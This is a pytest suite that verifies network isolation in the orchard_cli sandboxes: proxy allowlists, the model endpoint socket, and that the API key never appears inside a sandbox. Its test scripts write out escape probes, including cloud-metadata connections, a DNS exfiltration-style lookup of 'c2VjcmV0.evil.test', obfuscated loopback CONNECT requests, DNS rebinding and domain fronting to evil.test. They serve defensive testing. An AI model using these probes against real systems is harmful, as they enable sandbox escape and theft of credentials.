"""Real sandboxes: what leads out of them, and that nothing else does."""

import json
import os
import socket
import ssl
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import trustme

from orchard_cli import schema
from orchard_cli.env import open_env
from orchard_cli.env.local.local import LocalEnv
from orchard_cli.env.local.spawner.gates import interfaces
from orchard_cli.env.network.endpoint import ModelEndpoint
from orchard_cli.env.network.network import Network
from orchard_cli.env.network.ways import MODEL_PORT, PROXY_PORT
from orchard_cli.env.sandbox import Sandbox, Spec
from orchard_cli.errors import ConfigError, SandboxError

from ..conftest import children, settled
from .conftest import FAR, Echo, Names, Site

KEY = "sk-secret-abcdefghij"
PYTHON = ["python3", "-I", "-S", "-c"]
Opens = Callable[..., LocalEnv]


@pytest.fixture
def envs(names: Names) -> Iterator[Opens]:
    """`envs(network, *allow)`; names are looked up in `names`."""
    opened: list[LocalEnv] = []

    def make(network: str, *allow: str) -> LocalEnv:
        env = LocalEnv(network=network, allow=allow)
        opened.append(env)
        env._exits._network = Network(resolve=names)
        return env

    yield make
    for env in opened:
        network = env._exits.network
        env.close()
        assert not network.faults


def fetch(sandbox: Sandbox, url: str, *more: str) -> tuple[int, bytes]:
    """(http status, body) as curl sees it; 0 where there was no answer."""
    result = sandbox.exec(["curl", "-sS", "-m", "10", "-w", "\n%{http_code}", *more, url])
    body, _, code = result.stdout.rpartition(b"\n")
    return int(code), body


def test_what_a_rule_names_is_reached_and_nothing_else(envs: Opens, names: Names, site: Site) -> None:
    names.set("site.test", FAR)
    env = envs("allowlist", f"site.test:{site.port}", f"{FAR}:{site.port}")
    with env.open(Spec()) as sandbox:
        code, body = fetch(sandbox, f"http://site.test:{site.port}/x")
        assert code == 200 and json.loads(body)["path"] == "/x"
        assert fetch(sandbox, f"http://other.test:{site.port}/")[0] == 403
        assert fetch(sandbox, f"http://site.test:{site.port}/", "--noproxy", "*")[0] == 0
        assert fetch(sandbox, f"http://{FAR}:{site.port}/", "--noproxy", "*")[0] == 0
        (first, second) = env._exits.network.log.last(sandbox.id)
    assert (first.verdict, second.verdict) == ("allowed", "refused")


def test_https_with_a_real_client(envs: Opens, names: Names, authority: trustme.CA, tmp_path: Path) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("site.test").configure_cert(context)
    site = Site(Echo, context)
    names.set("site.test", FAR)
    pem = authority.cert_pem.bytes()
    try:
        env = envs("allowlist", f"https://site.test:{site.port}", f"{FAR}:{site.port}")
        with env.open(Spec()) as sandbox:
            sandbox.write("/tmp/ca.pem", pem)
            assert fetch(sandbox, f"https://site.test:{site.port}/", "--cacert", "/tmp/ca.pem")[0] == 200
            # the same tunnel with another name inside
            fronted = ["--connect-to", f"evil.test:443:site.test:{site.port}", "-k"]
            assert fetch(sandbox, "https://evil.test/", *fronted)[0] == 0
            assert fetch(sandbox, f"http://site.test:{site.port}/")[0] == 403
        assert len(site.seen) == 1
    finally:
        site.close()
    verdicts = [item.verdict for item in env._exits.network.log.last()]
    assert verdicts.count("allowed") == 1 and verdicts.count("refused") == 2


ATTEMPTS = f"""
import json, os, socket, sys
reached = []
def tries(name, family, kind, address, said=b""):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.connect(address)
            if said: s.send(said)
            reached.append(name)
    except OSError: pass
inet, inet6, stream, datagram = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
port = int(sys.argv[1])
tries("host loopback", inet, stream, ("127.0.0.1", port))
tries("host loopback 2", inet, stream, ("{FAR}", port))
tries("metadata", inet, stream, ("169.254.169.254", 80))
tries("dns over udp", inet, datagram, ("8.8.8.8", 53), b"x" * 30)
tries("dns over tcp", inet, stream, ("1.1.1.1", 53))
tries("dns over tls", inet, stream, ("1.1.1.1", 853))
tries("quic", inet, datagram, ("1.1.1.1", 443), b"x" * 30)
tries("ipv6", inet6, stream, ("2606:4700:4700::1111", 443))
tries("ipv6 mapped", inet6, stream, ("::ffff:1.1.1.1", 443))
tries("ipv6 link", inet6, datagram, ("ff02::1", 5353), b"x")
tries("broadcast", inet, datagram, ("255.255.255.255", 67), b"x")
tries("abstract", socket.AF_UNIX, stream, sys.argv[2])
for name in ("example.org", "c2VjcmV0.evil.test", "metadata.google.internal"):
    try: socket.getaddrinfo(name, 80); reached.append("lookup of " + name)
    except OSError: pass
def makes(name, *arguments, address=None):
    try:
        with socket.socket(*arguments) as s:
            s.settimeout(2)
            if address: s.connect(address)
            reached.append(name)
    except OSError: pass
makes("raw", inet, socket.SOCK_RAW, 1)
makes("packet", socket.AF_PACKET, socket.SOCK_RAW, 0)
makes("vsock", socket.AF_VSOCK, stream, 0, address=(2, 22))
print(json.dumps([reached, [name for _, name in socket.if_nameindex()], open("/etc/resolv.conf").read()]))
"""


@pytest.mark.parametrize("network", ["none", "allowlist", "open"])
def test_no_way_but_the_proxy(envs: Opens, network: str) -> None:
    env = envs(network, *(["site.test"] if network == "allowlist" else []))
    name = f"\0orchard-test-{os.getpid()}"
    with socket.create_server(("127.0.0.1", 0)) as port, socket.socket(socket.AF_UNIX) as abstract:
        abstract.bind(name)
        abstract.listen()
        with env.open(Spec()) as sandbox:
            words = [str(port.getsockname()[1]), name.replace("\0", "@")]
            script = ATTEMPTS.replace("sys.argv[2])", "'\\0' + sys.argv[2][1:])")
            result = sandbox.exec([*PYTHON, script, *words], timeout_s=30)
    assert result.ok, result.stderr
    assert json.loads(result.stdout) == [[], ["lo"], ""]


def test_the_proxy_leads_neither_home_nor_to_neighbours(envs: Opens, names: Names) -> None:
    names.set("localhost", "127.0.0.1")
    names.set("rebound.test", ["1.1.1.1", "127.0.0.1"])
    names.set("metadata.google.internal", "169.254.169.254")
    with socket.create_server(("127.0.0.1", 0)) as home:
        home.setblocking(False)
        port = home.getsockname()[1]
        env = envs("open")
        with env.open(Spec()) as sandbox:
            said = sandbox.exec([*PYTHON, RAW, str(port)]).stdout.split()
            assert len(said) == 12 and set(said) <= {b"400", b"403"}, said
        with pytest.raises(BlockingIOError):
            home.accept()


RAW = f"""
import socket, sys
for host in ("127.0.0.1 2130706433 0x7f000001 0177.0.0.1 127.1 [::1] [::ffff:127.0.0.1] localhost rebound.test"
             " metadata.google.internal 10.0.0.1 169.254.169.254").split():
    s = socket.create_connection(("127.0.0.1", {PROXY_PORT}))
    s.sendall(f"CONNECT {{host}}:{{sys.argv[1]}} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    print(s.recv(12).decode()[9:])
"""


def test_rules_change_while_it_runs(envs: Opens, names: Names, site: Site) -> None:
    names.set("site.test", FAR)
    rules = (f"site.test:{site.port}", f"{FAR}:{site.port}")
    env = envs("allowlist", *rules)
    with env.open(Spec()) as sandbox, env.open(Spec()) as other:
        url = f"http://site.test:{site.port}/"
        assert fetch(sandbox, url)[0] == 200
        assert settled(lambda: sandbox.ways.egress.connections, 0) == 0  # type: ignore[attr-defined]
        assert change(sandbox, "allowlist") == 0
        assert fetch(sandbox, url)[0] == 403 and fetch(other, url)[0] == 200
        change(sandbox, "allowlist", "*.test:*", f"{FAR}:{site.port}")  # more than the environment has is of no use
        names.set("other.test", FAR)
        assert fetch(sandbox, url)[0] == 200 and fetch(sandbox, f"http://other.test:{site.port}/")[0] == 403
        change(sandbox, "none")
        assert fetch(sandbox, url)[0] == 403
        change(sandbox, "")
        assert fetch(sandbox, url)[0] == 200  # as the environment says
        for wrong in ("open", "host"):
            with pytest.raises(SandboxError, match="asks for"):
                change(sandbox, wrong)


def change(sandbox: Sandbox, network: str, *allow: str) -> int:
    return sandbox.ways.change(network, allow)  # type: ignore[attr-defined, no-any-return]


def test_a_closed_sandbox_takes_no_rules(envs: Opens) -> None:
    with envs("open").open(Spec()) as sandbox:
        pass
    with pytest.raises(SandboxError) as caught:
        change(sandbox, "open")
    assert caught.value.fault.code == "client.closed"


def test_the_decisions_are_written_where_the_settings_say(tmp_path: Path) -> None:
    settings = schema.Env(network="allowlist", allow=["x.test"], network_log=str(tmp_path / "egress.jsonl"))
    with open_env(settings) as env, env.open(Spec()) as sandbox:  # type: ignore[attr-defined]
        assert fetch(sandbox, "http://secret.evil.test/")[0] == 403
        (line,) = (tmp_path / "egress.jsonl").read_text().splitlines()
    assert json.loads(line)["host"] == "secret.evil.test" and json.loads(line)["sandbox"] == sandbox.id


def test_rules_cannot_come_to_a_sandbox_that_was_made_without_a_proxy(envs: Opens) -> None:
    with envs("none").open(Spec()) as sandbox, pytest.raises(SandboxError, match="without a proxy") as caught:
        change(sandbox, "none")
    assert caught.value.fault.code == "client.bad_spec"


def test_a_fork_has_a_way_of_its_own(envs: Opens, names: Names, site: Site) -> None:
    env = envs("allowlist", f"{FAR}:{site.port}")
    with env.open(Spec()) as sandbox, sandbox.fork() as fork:
        change(sandbox, "allowlist")
        assert fetch(fork, f"http://{FAR}:{site.port}/")[0] == 200
        assert fetch(sandbox, f"http://{FAR}:{site.port}/")[0] == 403
        assert env._exits.network.log.last(fork.id)[0].verdict == "allowed"


def test_a_sandbox_may_ask_for_less_but_not_for_more(envs: Opens, names: Names, site: Site) -> None:
    names.set("site.test", FAR)
    names.set("other.test", FAR)
    port = site.port
    env = envs("allowlist", f"site.test:{port}", f"{FAR}:{port}", "x.test")
    asked = Spec(network="allowlist", allow=(f"*.test:{port}", f"{FAR}:{port}"))
    with env.open(asked) as sandbox:
        assert fetch(sandbox, f"http://site.test:{port}/")[0] == 200
        assert fetch(sandbox, f"http://other.test:{port}/")[0] == 403  # the environment does not have it
        assert fetch(sandbox, "http://x.test/")[0] == 403  # the sandbox did not ask for it
    for spec in (
        Spec(network="open"),
        Spec(network="host"),
        Spec(allow=("x",)),
        Spec(network="allowlist", allow=("*",)),
        Spec(network="allowlist", allow=(f"site.test:{port}", "google.com")),  # what the proxy would refuse for ever
    ):
        with pytest.raises(SandboxError) as caught:
            env.open(spec)
        assert caught.value.fault.code == "client.bad_spec" and caught.value.hint


# -- the model socket


@pytest.fixture
def endpoint(site: Site, monkeypatch: pytest.MonkeyPatch) -> ModelEndpoint:
    monkeypatch.setenv("MODEL_KEY", KEY)
    return ModelEndpoint(f"http://{FAR}:{site.port}/v1", "MODEL_KEY")


def test_a_sandbox_without_network_reaches_its_model(envs: Opens, endpoint: ModelEndpoint, site: Site) -> None:
    with envs("none").open(Spec(model=endpoint)) as sandbox:
        assert sandbox.exec("echo $ORCHARD_MODEL_URL").stdout == b"http://127.0.0.1:%d/v1\n" % MODEL_PORT
        script = "curl -sS $OPENAI_BASE_URL/chat/completions -d '{}' -H 'Content-Type: application/json'"
        result = sandbox.exec(script)
        assert json.loads(result.stdout)["path"] == "/v1/chat/completions", result.stderr
        assert site.seen[0]["headers"]["authorization"] == f"Bearer {KEY}"  # type: ignore[index]
        assert fetch(sandbox, f"http://127.0.0.1:{MODEL_PORT}/v1/files")[0] == 403
        assert fetch(sandbox, "http://example.org/", "-x", f"http://127.0.0.1:{MODEL_PORT}")[0] == 403
        assert fetch(sandbox, f"http://127.0.0.1:{PROXY_PORT}/")[0] == 0
        assert sandbox.ways.model.way.calls == 1  # type: ignore[attr-defined]


def test_the_key_is_nowhere_inside(envs: Opens, endpoint: ModelEndpoint) -> None:
    with envs("none").open(Spec(model=endpoint)) as sandbox:
        sandbox.exec("sleep 60 & curl -sS $OPENAI_BASE_URL/chat/completions -d '{}' >answer 2>&1")
        look = f"""
import os, sys
key = {KEY.encode()[::-1]!r}[::-1]
found = [k for k, v in os.environb.items() if key in v]
for top, _, names in os.walk("/"):
    if top.startswith(("/usr", "/sys", sys.base_prefix)) or "/task/" in top: continue
    for name in names:
        path = os.path.join(top, name)
        if os.path.isfile(path) and not path.endswith(("kmsg", "kcore", "trace_pipe", "clear_refs")):
            try:
                with open(path, "rb") as f: data = f.read(1 << 20)
            except OSError: continue
            if key in data: found.append(path)
print("read", os.path.exists("answer"), found)
"""
        result = sandbox.exec([*PYTHON, look], timeout_s=30)
    assert result.stdout == b"read True []\n", (result.stdout, result.stderr)


def test_a_model_whose_key_is_not_set_is_the_client_s_fault(envs: Opens, monkeypatch: pytest.MonkeyPatch) -> None:
    env = envs("none")
    before = children(env.spawner_pid)
    with pytest.raises(SandboxError, match="NO_SUCH_KEY") as caught:
        env.open(Spec(model=ModelEndpoint("http://x/v1", "NO_SUCH_KEY")))
    assert caught.value.fault.code == "client.bad_spec"
    assert settled(lambda: children(env.spawner_pid), before) == before


# -- proof


def test_a_sandbox_that_reaches_what_it_must_not_does_not_open(envs: Opens, endpoint: ModelEndpoint) -> None:
    env = envs("allowlist", "x.test")
    before = children(env.spawner_pid)
    with env.open(Spec()) as sandbox:
        # Its own proxy is within its reach: as a canary it must be found.
        leak = ("tcp", "127.0.0.1", PROXY_PORT)
        for call in (lambda: sandbox.prove([leak]), lambda: sandbox.listen(5555, [leak])):  # type: ignore[attr-defined]
            with pytest.raises(SandboxError, match="reaches 127") as caught:
                call()
            assert (caught.value.fault.code, caught.value.fault.attributable) == ("isolation_not_proven", "infra")
        env._exits._canaries.all = (leak, *env._exits._canaries.all)
        with pytest.raises(
            SandboxError, match="reaches 127"
        ):  # nothing listens for the first gate, for the second it does
            env.open(Spec(model=endpoint))
    assert settled(lambda: children(env.spawner_pid), before) == before


def test_only_interfaces_that_are_up_count() -> None:
    here = [path for path in Path("/sys/class/net").iterdir() if path.name != "lo"]
    up = {path.name for path in here if int((path / "flags").read_text(), 16) & 1}
    assert set(interfaces()) == up  # in a namespace of ours there are none: every sandbox that opens shows it


def test_gates_go_with_their_sandbox(envs: Opens, endpoint: ModelEndpoint) -> None:
    env = envs("allowlist", "x.test")
    env._exits.network.run(_nothing())
    before = descriptors()
    for _ in range(3):
        env.open(Spec(model=endpoint)).close()
    assert settled(descriptors, before) == before


async def _nothing() -> None: ...


def descriptors() -> int:
    return len(list(Path("/proc/self/fd").iterdir()))


WRONG = [("none", ("x.org",)), ("allowlist", ()), ("allowlist", ("*",)), ("host", ("x.org",)), ("wide", ())]


@pytest.mark.parametrize(("network", "allow"), WRONG)
def test_settings_that_do_not_go_together_are_named(network: str, allow: tuple[str, ...]) -> None:
    with pytest.raises(ConfigError, match=r"env\.(network|allow)") as caught:
        LocalEnv(network=network, allow=allow)
    assert caught.value.hint


@pytest.mark.parametrize("network", ["allowlist", "open"])
def test_rules_without_isolation_are_refused(network: str) -> None:
    with pytest.raises(ConfigError, match="cannot hold without isolation"):
        LocalEnv("process", network=network, allow=("x.org",))


def test_a_model_for_a_sandbox_without_isolation(endpoint: ModelEndpoint) -> None:
    with LocalEnv("process") as env:
        with env.open(Spec(model=endpoint)) as sandbox:
            assert sandbox.exec("curl -sS $OPENAI_BASE_URL/models").stdout.startswith(b'{"method": "GET"')
        with pytest.raises(SandboxError, match="isolation"):
            env.open(Spec(network="open"))
